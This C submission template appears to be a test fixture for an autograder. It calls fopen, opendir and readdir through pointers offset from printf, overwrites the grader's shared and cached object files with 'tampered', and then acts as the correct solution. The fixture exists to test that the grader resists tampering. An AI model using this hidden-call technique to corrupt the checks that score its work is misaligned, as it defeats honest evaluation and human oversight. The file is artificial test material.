/* Overwrites the grader's objects at run time (through a hidden fopen):
   the run's shared runner object (../shared/ from its folder), the cached
   objects of build/grade/cache, and the old grader's build/grade/*.o.
   Then it behaves as the solution. Expected: its own full marks, and no
   effect on the submissions graded after it (the starter still 0). */
@SOLUTION@
#include <stdio.h>
#include <string.h>
#include <dirent.h>
typedef FILE *(*fopen_fn)(const char *, const char *);
typedef DIR *(*opendir_fn)(const char *);
typedef struct dirent *(*readdir_fn)(DIR *);
static void spoil(const char *path) {
    fopen_fn op = (fopen_fn)((unsigned long)&printf + (@OFF_fopen@));
    FILE *f = op(path, "r+");
    if (f) { fputs("tampered", f); fclose(f); printf("tamper: wrote %s\n", path); }
}
static void spoil_dir(const char *dir) {
    opendir_fn od = (opendir_fn)((unsigned long)&printf + (@OFF_opendir@));
    readdir_fn rd = (readdir_fn)((unsigned long)&printf + (@OFF_readdir@));
    DIR *d = od(dir);
    struct dirent *e;
    char p[4096];
    while (d && (e = rd(d)) != NULL) {
        size_t l = strlen(e->d_name);
        if (l > 2 && !strcmp(e->d_name + l - 2, ".o")) { snprintf(p, sizeof p, "%s/%s", dir, e->d_name); spoil(p); }
    }
}
void student_ops(gpudl_ops *ops) {
    spoil_dir("../shared");
    spoil_dir("@REPO@/build/grade/cache");
    spoil_dir("@REPO@/build/grade");
    solution_ops(ops);
}
